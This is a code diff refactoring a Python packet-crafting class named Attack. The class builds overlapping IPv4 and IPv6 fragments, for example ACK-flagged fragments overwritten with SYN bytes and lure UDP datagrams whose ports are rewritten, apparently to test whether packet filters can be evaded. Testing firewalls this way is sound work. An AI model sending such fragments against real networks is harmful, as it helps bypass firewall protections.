@@ -98,6 +98,25 @@ class Attack:
             out.append(self.ip6() / IPv6ExtHdrFragment(nh=nh, offset=a // 8, m=m, id=ident) / Raw(payload[a:b]))
         return out
 
+    def frags(self, f, proto, payload, cuts):
+        return (self.frags4 if f == 4 else self.frags6)(proto, payload, cuts)
+
+    @staticmethod
+    def same_id(f, pkt, like):
+        """Give PKT the fragment identification of LIKE."""
+        if f == 4:
+            pkt.id = like.id
+        else:
+            pkt[IPv6ExtHdrFragment].id = like[IPv6ExtHdrFragment].id
+
+    def overlap(self, f, ack, syn):
+        """A first fragment holding bytes 0-15 of ACK (its flags read ACK),
+        and one at offset 8 holding bytes 8-end of SYN, with one id."""
+        first = self.frags(f, 6, ack, [(0, 16), (16, 16)])[0]
+        rest = self.frags(f, 6, syn, [(0, 8), (8, len(syn))])[1]
+        self.same_id(f, rest, first)
+        return first, rest
+
     def both(self, proto, payload, cuts):
         l3 = self.frags4(proto, payload[4], cuts) + self.frags6(proto, payload[6], cuts)
         self.out(l3)
@@ -122,20 +141,11 @@ class Attack:
             ack = {f: a[:16] + syn[f][16:18] + a[18:] for f, a in ack.items()}
             self.both(6, syn, [(0, 8), (8, len(syn[4]))])  # tiny
             self.both(6, syn, [(0, 16), (16, len(syn[4]))])  # split
-            for f, frags in ((4, self.frags4), (6, self.frags6)):  # overlap, both orders
-                first = frags(6, ack[f], [(0, 16), (16, 16)])[0]
-                rest = frags(6, syn[f], [(0, 8), (8, len(syn[f]))])[1]
-                rest.id = first.id if f == 4 else rest.id
-                if f == 6:
-                    rest[IPv6ExtHdrFragment].id = first[IPv6ExtHdrFragment].id
+            for f in (4, 6):  # overlap, both orders
+                first, rest = self.overlap(f, ack[f], syn[f])
                 self.out([first, rest])
-                first2 = frags(6, ack[f], [(0, 16), (16, 16)])[0]
-                rest2 = frags(6, syn[f], [(0, 8), (8, len(syn[f]))])[1]
-                if f == 4:
-                    rest2.id = first2.id
-                else:
-                    rest2[IPv6ExtHdrFragment].id = first2[IPv6ExtHdrFragment].id
-                self.out([rest2, first2])
+                first, rest = self.overlap(f, ack[f], syn[f])
+                self.out([rest, first])
             opts = bytes(IPv6ExtHdrDestOpt(nh=6))
             self.out(self.frags6(60, opts + segment(l3[6], 53, dport, "S"), [(0, 8), (8, 8 + 20)]))
             self.out([self.ip6() / IPv6ExtHdrFragment(nh=6, offset=0, m=0, id=self.next_id()) / Raw(segment(l3[6], 53, dport, "S"))])
@@ -146,12 +156,9 @@ class Attack:
             # second first fragment that rewrites the ports to DPORT.
             for f in (4, 6):
                 lure = datagram(l3[f], 53, CONTROL_PORT, DATA * 2)
-                fr = (self.frags4 if f == 4 else self.frags6)(17, lure, [(0, 16), (16, len(lure))])
-                over = (self.frags4 if f == 4 else self.frags6)(17, dgram[f], [(0, 16), (16, 16)])[0]
-                if f == 4:
-                    over.id = fr[0].id
-                else:
-                    over[IPv6ExtHdrFragment].id = fr[0][IPv6ExtHdrFragment].id
+                fr = self.frags(f, 17, lure, [(0, 16), (16, len(lure))])
+                over = self.frags(f, 17, dgram[f], [(0, 16), (16, 16)])[0]
+                self.same_id(f, over, fr[0])
                 self.out([fr[0], over, fr[1]])
             opts = bytes(IPv6ExtHdrDestOpt(nh=17))
             body = datagram(l3[6], 53, dport)
